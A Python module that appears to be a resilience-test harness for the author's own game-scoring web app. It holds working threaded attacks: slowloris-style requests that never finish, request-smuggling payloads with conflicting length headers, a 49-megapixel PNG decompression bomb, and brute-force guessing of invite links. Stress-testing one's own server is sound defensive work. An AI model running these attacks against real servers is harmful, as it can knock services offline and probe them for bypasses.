"""Define attacks on a server. Each is a function that is called so many times a second."""

from __future__ import annotations

import socket
import struct
import threading
import zlib
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

ADDRESS = "127.0.0.66"  # nobody else's: limits of one household do not concern those who play
MOST_KEPT = 300  # connections that one attack holds open


@dataclass
class Stranger:
    """Attack as somebody in no club, and hold the open connections."""

    site: str
    kept: list[socket.socket] = field(default_factory=list)

    def connect(self, receive: int = 0) -> socket.socket:
        at = urlsplit(self.site)
        line = socket.socket()
        try:
            if receive:
                line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
            line.settimeout(5)
            line.bind((ADDRESS, 0))
            line.connect((at.hostname, at.port))
        except BaseException:
            line.close()
            raise
        return line

    def send(self, said: bytes) -> socket.socket:
        line = self.connect()
        with suppress(OSError):
            line.sendall(self.addressed(said))
        return line

    def addressed(self, said: bytes) -> bytes:
        return said.replace(b"HOST", urlsplit(self.site).netloc.encode(), 1)

    def keep(self, line: socket.socket) -> None:
        self.kept.append(line)
        if len(self.kept) > MOST_KEPT:
            self.kept.pop(0).close()

    def leave(self) -> None:
        while self.kept:
            self.kept.pop().close()


HOST = b"Host: HOST\r\n"
TEXT = HOST + b"Content-Type: text/plain\r\n"
PHOTO = b"POST /api/v1/photo HTTP/1.1\r\n" + HOST + b"Content-Type: multipart/form-data; boundary=edge\r\n"
BROKEN = (
    b"POST /try HTTP/1.1\r\n" + TEXT + b"Content-Length: 100\r\n\r\nabc",
    b"POST /api/v1/photo HTTP/1.1\r\n" + TEXT + b"Content-Length: 400000\r\n\r\n" + 90000 * b"x",
    b"POST /try HTTP/1.1\r\n" + TEXT + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n",
    b"POST /api/v1/photo HTTP/1.1\r\n" + TEXT + b"Content-Length: 80000000\r\n\r\nabc",
    b"GET / HTTP/1.1\r\n" + TEXT + b"\r\n",
    b"abc\r\n\r\n",
)
TWO_WAYS = (
    b"POST / HTTP/1.1\r\n" + HOST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\n" + HOST + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    b"POST / HTTP/1.1\r\n" + HOST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + HOST + b"Host: other.example\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + HOST + b"X: a\0b\r\n\r\n",
    b"GET / HTTP/1.1\r\n" + HOST + b"X: " + b"x" * 40_000 + b"\r\n\r\n",
    b"get / HTTP/1.1\r\n" + HOST + b"\r\n",
    b"GET http:// HTTP/1.1\r\n" + HOST + b"\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
)


def break_off(stranger: Stranger, number: int) -> None:
    """Break off a request like a phone that loses its Wi-Fi. The connection is closed or cut in turns."""
    with suppress(OSError), stranger.send(BROKEN[number % len(BROKEN)]) as line:
        if number // len(BROKEN) % 2:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def ask_in_two_ways(stranger: Stranger, number: int) -> None:
    with suppress(OSError), stranger.send(TWO_WAYS[number % len(TWO_WAYS)]) as line:
        line.recv(100)


def begin_headers(stranger: Stranger, _: int) -> None:
    with suppress(OSError):
        stranger.keep(stranger.send(b"GET / HTTP/1.1\r\n" + HOST + b"X: "))


def begin_bodies(stranger: Stranger, _: int) -> None:
    with suppress(OSError):
        stranger.keep(stranger.send(b"POST /try HTTP/1.1\r\n" + TEXT + b"Content-Length: 500\r\n\r\nx"))


def fill_bodies(stranger: Stranger, _: int) -> None:
    """Send half of a large photo and never the rest."""
    with suppress(OSError):
        stranger.keep(stranger.send(PHOTO + b"Content-Length: 19000000\r\n\r\n" + bytes(9_000_000)))


def take_no_answers(stranger: Stranger, _: int) -> None:
    with suppress(OSError):
        line = stranger.connect(receive=4096)
        stranger.keep(line)
        line.sendall(stranger.addressed(b"GET /try HTTP/1.1\r\n" + HOST + b"\r\n"))


def score_nonsense(stranger: Stranger, _: int) -> None:
    record = b'{"game": "tiny_towns", "players": [' + b",".join([b"{}"] * 40_000) + b"]}"
    head = b"POST /api/v1/score HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\nConnection: close\r\n"
    with suppress(OSError), stranger.send(head + b"Content-Length: %d\r\n\r\n" % len(record) + record) as line:
        line.recv(100)


def guess_links(stranger: Stranger, number: int) -> None:
    with suppress(OSError), stranger.send(b"GET /join/%022d HTTP/1.1\r\n" % number + HOST + b"\r\n") as line:
        line.recv(100)


def bomb() -> bytes:
    """Return a small PNG of 49 megapixels with a palette and transparency."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    side = 7000
    rows = zlib.compress((b"\0" + bytes(side)) * side, 9)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 3, 0, 0, 0))
    colours = chunk(b"PLTE", bytes(768)) + chunk(b"tRNS", bytes(256))
    return b"\x89PNG\r\n\x1a\n" + head + colours + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def send_bombs(stranger: Stranger, _: int) -> None:
    part = b'--edge\r\nContent-Disposition: form-data; name="photo"; filename="a.png"\r\n\r\n'
    body = part + bomb() + b"\r\n--edge--\r\n"
    with suppress(OSError):
        stranger.keep(stranger.send(PHOTO + b"Content-Length: %d\r\n\r\n" % len(body) + body))


@dataclass(frozen=True)
class Attack:
    """Describe an attack and how many times a second it is made."""

    act: Callable[[Stranger, int], None]
    rate: int = 10


BROKEN_REQUESTS = "requests that break off"
ATTACKS = {
    BROKEN_REQUESTS: Attack(break_off),
    "requests that can be read in two ways": Attack(ask_in_two_ways),
    "headers that never end": Attack(begin_headers, 50),
    "bodies that never end": Attack(begin_bodies, 50),
    "halves of large photos": Attack(fill_bodies, 2),
    "answers that nobody takes": Attack(take_no_answers, 50),
    "long records of nonsense": Attack(score_nonsense, 5),
    "guessed links": Attack(guess_links, 50),
    "photos that unpack to 49 megapixels": Attack(send_bombs, 1),
}


class Attacking(threading.Thread):
    """Run one attack in a thread until it is stopped."""

    def __init__(self, site: str, attack: Attack) -> None:
        super().__init__()
        self.stranger, self.attack, self.over, self.done = Stranger(site), attack, threading.Event(), 0

    def run(self) -> None:
        while not self.over.wait(1 / self.attack.rate):
            self.attack.act(self.stranger, self.done)
            self.done += 1
        self.stranger.leave()
